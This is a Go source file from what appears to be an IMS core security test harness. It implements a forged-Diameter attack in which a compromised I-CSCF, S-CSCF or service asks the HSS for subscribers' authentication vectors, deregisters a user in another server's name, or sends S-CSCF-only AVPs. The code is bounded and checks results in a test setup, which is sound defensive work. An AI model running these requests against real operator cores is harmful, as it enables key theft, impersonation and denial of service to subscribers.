package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"time"

	"imsafe/proto/aka"
	"imsafe/proto/diameter"
	"imsafe/secure"
)

// diameterForge: a node of the core asks the HSS for what its function has no business with.
func diameterForge() Attack {
	controls := []secure.ControlID{secure.CoreAuthorizationRole}
	return Attack{
		ID: "core.diameter.forge", Number: "CX-02", Title: "a broken-in I-CSCF speaks as an S-CSCF to the HSS, an S-CSCF as another one, a service as a CSCF",
		Text:     "whoever gets into one node of the core, the one that strangers reach first, has the vectors of every subscriber and moves their registrations",
		Services: []Service{Integrity, Confidentiality}, Stride: Elevation, Threats: []Threat{Corruption, Disclosure}, Module: ServicesControl,
		Source: "TS 29.228 6.1.1, 6.1.2, 6.3", Access: []Access{Cx},
		Bounds: Bounds{Packets: 40, Bytes: 60_000, Conns: 1, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "vectors", Position: CoreNode, Controls: controls, Run: fetchesVectors},
			{Name: "assignment", Position: CoreNode, Controls: controls, Run: takesUserAway},
			{Name: "name-vectors", Position: CoreNode, Controls: controls, Run: fetchesInAnothersName},
			{Name: "name-assignment", Position: CoreNode, Controls: controls, Run: takesInAnothersName},
			{Name: "avps", Position: CoreNode, Controls: controls, Run: asksWithAVPs},
			{Name: "service", Position: EnrolledPlatform, Access: []Access{Sh}, Controls: controls, Run: pullsWithAVPs},
		},
	}
}

// Values of Server-Assignment-Type and of User-Data-Already-Available (TS 29.229 6.3.15, 6.3.26).
const (
	userDeregistration = 5
	dataNotAvailable   = 0
)

// interrogating connects with the certificate of a node that has an I-CSCF and nothing else.
func (f *Field) interrogating(ctx context.Context) (*shLine, error) {
	if f.position != CoreNode {
		return nil, errPosition
	}
	return f.diameterPeer(ctx, f.attacker, f.Cx, diameter.AppCx, &f.ICSCF)
}

// serving connects with the certificate of a node that has an S-CSCF of its own.
func (f *Field) serving(ctx context.Context) (*shLine, error) {
	if f.position != CoreNode {
		return nil, errPosition
	}
	return f.diameterPeer(ctx, f.attacker, f.Cx, diameter.AppCx, &f.SCSCF)
}

// fetchesVectors asks for vectors of four subscribers, five times each.
func fetchesVectors(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.interrogating(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	if _, err := line.servedBy(f.Users[Alice]); err != nil {
		return err
	}
	o.Arrived("what an I-CSCF may ask is answered")
	return line.harvests(line.vectorsOf, o)
}

// harvests sends requests for vectors, as ask makes them.
func (l *shLine) harvests(ask func(*User) diameter.Writer, o *Outcome) error {
	const times = 5
	var asked []*User
	var requests []*diameter.Writer
	for range times {
		for _, name := range []string{Alice, Bob, Carol, Mallory} {
			w := ask(l.f.Users[name])
			requests, asked = append(requests, &w), append(asked, l.f.Users[name])
		}
	}
	answers, err := l.ask(requests...)
	if err != nil {
		return err
	}
	genuine := 0
	for i, a := range answers {
		if a.vectorOf(asked[i]) {
			genuine++
		}
	}
	o.Users = min(genuine, 4)
	o.Wire(genuine > 0, "%d requests for vectors are answered %s: %d vectors of subscribers", len(answers), answered(answers), genuine)
	return nil
}

// vectorsOf makes a MAR in the name of the S-CSCF that serves the users (TS 29.229 6.1.7).
func (l *shLine) vectorsOf(u *User) diameter.Writer {
	return l.vectorsInNameOf(u, "sip:scscf."+l.f.Domain)
}

func (l *shLine) vectorsInNameOf(u *User, server string) diameter.Writer {
	w := l.begin(diameter.MAR, diameter.AppCx, diameter.FlagProxiable)
	w.Text(diameter.DestinationRealm, l.f.Domain)
	w.Text(diameter.UserName, u.IMPI)
	w.Text(diameter.PublicIdentity, u.IMPU)
	w.Open(diameter.SIPAuthDataItem)
	w.Text(diameter.SIPAuthenticationScheme, "Digest-AKAv1-MD5")
	w.Close()
	w.Unsigned32(diameter.SIPNumberAuthItems, 1)
	w.Text(diameter.ServerName, server)
	return w
}

// vectorOf reports whether the answer has the cipher key that the card of u would compute from the challenge with it.
func (a *shAnswer) vectorOf(u *User) bool {
	item, _ := a.avps.Find(diameter.SIPAuthDataItem)
	challenge, _ := item.Group().Find(diameter.SIPAuthenticate)
	key, there := item.Group().Find(diameter.ConfidentialityKey)
	if !there || len(challenge.Data) < len(aka.RAND{}) {
		return false
	}
	_, ck, _, _ := aka.NewMilenage(u.K, u.OPc).F2345(aka.RAND(challenge.Data[:len(aka.RAND{})]))
	return bytes.Equal(key.Data, ck[:])
}

// servedBy asks with a LIR which S-CSCF has a user (TS 29.229 6.1.5).
func (l *shLine) servedBy(u *User) (string, error) {
	w := l.begin(diameter.LIR, diameter.AppCx, diameter.FlagProxiable)
	w.Text(diameter.DestinationRealm, l.f.Domain)
	w.Text(diameter.PublicIdentity, u.IMPU)
	answers, err := l.ask(&w)
	if err != nil {
		return "", err
	}
	name := answers[0].avps.Text(diameter.ServerName)
	if name == "" {
		return "", fmt.Errorf("attack: the HSS does not say who serves %s: %s", u.Name, answered(answers))
	}
	return name, nil
}

// takesUserAway tells the HSS in the name of alice's S-CSCF that she has gone.
func takesUserAway(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.interrogating(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	server, err := line.servedBy(f.Users[Alice])
	if err != nil {
		return err
	}
	o.Arrived("what an I-CSCF may ask is answered: alice is at %s", server)
	return line.endsAlice(ctx, server, o)
}

// endsAlice tells the HSS in the name of an S-CSCF that alice has gone.
func (l *shLine) endsAlice(ctx context.Context, server string, o *Outcome) error {
	f := l.f
	w := l.begin(diameter.SAR, diameter.AppCx, diameter.FlagProxiable)
	w.Text(diameter.DestinationRealm, f.Domain)
	w.Text(diameter.UserName, f.Users[Alice].IMPI)
	w.Text(diameter.PublicIdentity, f.Users[Alice].IMPU)
	w.Text(diameter.ServerName, server)
	w.Enumerated(diameter.ServerAssignmentType, userDeregistration)
	w.Enumerated(diameter.UserDataAlreadyAvailable, dataNotAvailable)
	answers, err := l.ask(&w)
	if err != nil {
		return err
	}
	_, gone := l.servedBy(f.Users[Alice])
	reached := f.Bob.Reaches(ctx, f.Alice, f.token())
	if reached != nil && errors.Is(ctx.Err(), context.DeadlineExceeded) {
		return reached
	}
	if gone != nil {
		o.Users = 1
	}
	o.Wire(gone != nil, "the assignment is answered %s; the HSS still knows who serves alice: %v", answered(answers), gone == nil)
	o.Peer(reached != nil, "bob reaches alice: %v", reached == nil)
	return nil
}

// inOwnName asks for a vector of mallory in the name of the S-CSCF that the node has, as it may.
func (l *shLine) inOwnName(o *Outcome) error {
	own := l.vectorsInNameOf(l.f.Users[Mallory], "sip:"+l.host)
	answers, err := l.ask(&own)
	if err != nil {
		return err
	}
	if !answers[0].vectorOf(l.f.Users[Mallory]) {
		return fmt.Errorf("attack: an S-CSCF gets no vector in its own name: %s", answered(answers))
	}
	o.Arrived("in its own name the S-CSCF is answered")
	return nil
}

// fetchesInAnothersName asks for vectors as one S-CSCF in the name of another.
func fetchesInAnothersName(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.serving(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	if err := line.inOwnName(o); err != nil {
		return err
	}
	return line.harvests(line.vectorsOf, o)
}

// takesInAnothersName tells the HSS, as one S-CSCF in the name of another that serves her, that alice has gone.
func takesInAnothersName(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.serving(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	if err := line.inOwnName(o); err != nil {
		return err
	}
	server, err := line.servedBy(f.Users[Alice])
	if err != nil {
		return err
	}
	return line.endsAlice(ctx, server, o)
}

// What an I-CSCF and a service have no word to say about: how somebody's password is checked, and with which other devices he is registered (TS 29.229 6.3.36,
// 6.3.52). Neither has the M bit, so that the format of a command alone does not keep them out (RFC 6733 4.1).
func ofSCSCF(w *diameter.Writer) {
	w.Open(diameter.SIPDigestAuthenticate)
	w.Text(diameter.DigestRealm, "elsewhere.invalid")
	w.Text(diameter.DigestHA1, "d41d8cd98f00b204e9800998ecf8427e")
	w.Close()
	w.Enumerated(diameter.MultipleRegistrationIndication, 1)
}

// asksWithAVPs asks where alice is, as an I-CSCF may, and says what an S-CSCF alone may say with it.
func asksWithAVPs(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.interrogating(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	if _, err := line.servedBy(f.Users[Alice]); err != nil {
		return err
	}
	w := line.begin(diameter.LIR, diameter.AppCx, diameter.FlagProxiable)
	w.Text(diameter.DestinationRealm, f.Domain)
	w.Text(diameter.PublicIdentity, f.Users[Alice].IMPU)
	ofSCSCF(&w)
	return line.believed(&w, "an I-CSCF's question", o)
}

// pullsWithAVPs reads data of its own user, as a service may, and says what an S-CSCF alone may say with it.
func pullsWithAVPs(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.service(ctx, f.attacker, Rogue)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	own := line.pull(f.Users[Bob].IMPU, refMSISDN)
	if answers, err := line.ask(&own); err != nil || answers[0].result != uint32(diameter.ResultSuccess) {
		return fmt.Errorf("attack: the service does not get the number of its own user: %s: %w", answered(answers), err)
	}
	w := line.pull(f.Users[Bob].IMPU, refMSISDN)
	ofSCSCF(&w)
	return line.believed(&w, "a service's question", o)
}

// believed reports whether a request with AVPs of another role is answered as if they were in order.
func (l *shLine) believed(w *diameter.Writer, what string, o *Outcome) error {
	answers, err := l.ask(w)
	if err != nil {
		return err
	}
	taken := answers[0].result == uint32(diameter.ResultSuccess)
	if taken {
		o.Users = 1
	}
	o.Arrived("without them the question is answered; with them %d", answers[0].result)
	o.Wire(taken, "%s with AVPs of an S-CSCF (SIP-Digest-Authenticate, Multiple-Registration-Indication) is answered %d", what, answers[0].result)
	return nil
}
